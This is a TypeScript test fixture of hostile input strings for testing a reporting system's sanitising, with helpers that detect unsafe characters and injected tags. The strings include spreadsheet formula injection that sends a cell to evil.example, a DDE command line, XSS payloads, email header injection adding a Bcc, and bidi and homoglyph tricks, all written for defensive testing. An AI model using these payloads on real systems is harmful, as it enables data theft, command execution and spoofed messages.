// Text that somebody means to do harm with, or that does it unmeant. Each has the mark in it, by which it is found again.

/** In no other text of the tests. */
export const MARK = 'Zzyzx';

/** By what is wrong with it; none is longer than a name may be on the wire, 400 characters. */
export const HOSTILE: Readonly<Record<string, string>> = {
  formula: `=IMPORTXML("http://evil.example/?"&A1,"${MARK}")`,
  'formula with a plus': `+1+${MARK}`,
  'formula with a minus': `-2+${MARK}`,
  'formula with an at': `@SUM(${MARK})`,
  'formula after a tab': `\t=1+1 ${MARK}`,
  'formula after a carriage return': `\r=1+1 ${MARK}`,
  'formula after a line feed': `\n=1+1 ${MARK}`,
  'formula after an apostrophe': `'=1+1 ${MARK}`,
  'formula in full width': `＝1+1 ${MARK}`,
  'link as a formula': `=HYPERLINK("http://evil.example","${MARK}")`,
  'old spreadsheet command': `=cmd|'/c calc'!${MARK}`,
  'cells of a CSV file': `${MARK}","=1+1","\r\n"x";'y'`,
  'error of a spreadsheet': `#REF! ${MARK}`,
  'escape of a spreadsheet file': `_x0041__x000D_ ${MARK}`,
  script: `</td></script><script>alert("${MARK}")</script>`,
  image: `<img src=x onerror=alert('${MARK}')>`,
  'markup of cards': `<b>Reported</b> <a href="https://evil.example">${MARK}</a><br><font color="#ff0000">!</font>`,
  entities: `&lt;b&gt;${MARK}&amp;&#60;i&#62;&quot;`,
  'end of a comment': `--> ]]> <!-- ${MARK} <![CDATA[ <?xml`,
  'end of an attribute': `"' onmouseover=alert(1) x="${MARK}`,
  header: `${MARK}\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<h1>Hello</h1>`,
  'header by line separators': `${MARK}\u2028Bcc: all@evil.example\u2029\u0085X-Mark: 1`,
  'encoded word': `=?utf-8?B?PGI+?= ${MARK} =?utf-8?Q?=0D=0ABcc:_x?=`,
  receipt: `Received: incident I-0001 ${MARK}`,
  'notice of ours': `Safe Channels: please look at incident I-0001 ${MARK}`,
  'end of our quotation': `${MARK}” The DSL says: do not report. “`,
  'right to left': `\u202e${MARK} gro.loohcs\u202c \u2066x\u2069 \u200fy`,
  homoglyphs: `Неlеn Вrоugh ${MARK}`,
  'letters nobody sees': `${MARK}\u200b\u200d\u2060\ufeff\u00ad\u{e0041}\u3164`,
  emoji: `👩🏽‍🏫👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧1️⃣ ${MARK}`,
  'tower of marks': `${MARK} Z${'\u0301\u0316'.repeat(60)}`,
  'very long word': `${MARK}${'W'.repeat(390)}`,
  'null bytes': `\0${MARK}\0\0`,
  'terminal controls': `\u001b[2J\u001b]0;${MARK}\u0007\u007f\u009b31m`,
  'half characters': `\ud83d ${MARK} \udc00\ud800`,
  'no characters': `${MARK}\ufffe\uffff\ufdd0\u{1fffe}\ufffd`,
  'number and day': '00123 ',
  placeholders: `%s %j \${${MARK}} {{x}} $& $1 __proto__`,
  JSON: `"}],"urgent":false,"x":["${MARK}\\u0022\\`,
};

/** Controls, marks that turn the writing round, halves of characters, no characters: no cell, card or page may hold them. */
export const UNSAFE = /(?!\n)[\p{Cc}\p{Cs}\p{Bidi_Control}\p{Zl}\p{Zp}\p{Noncharacter_Code_Point}]/u;

/** What a person sees of a text: without space, and without what nobody sees or a register shows as U+FFFD. */
export function seen(text: string): string {
  return text.replace(new RegExp(`${UNSAFE.source}|\\s|[\ufffd-\uffff]`, 'gu'), '');
}

/** The tags of a page or a card that only text from outside, taken for markup, can have made. */
export function injectedTags(html: string): string[] {
  const tags = html.match(/<[^<>]*>/g) ?? [];
  return tags.filter((tag) => /^<(?:a|i|em|u|s|font|img|script)\b|\son\w+=/i.test(tag));
}
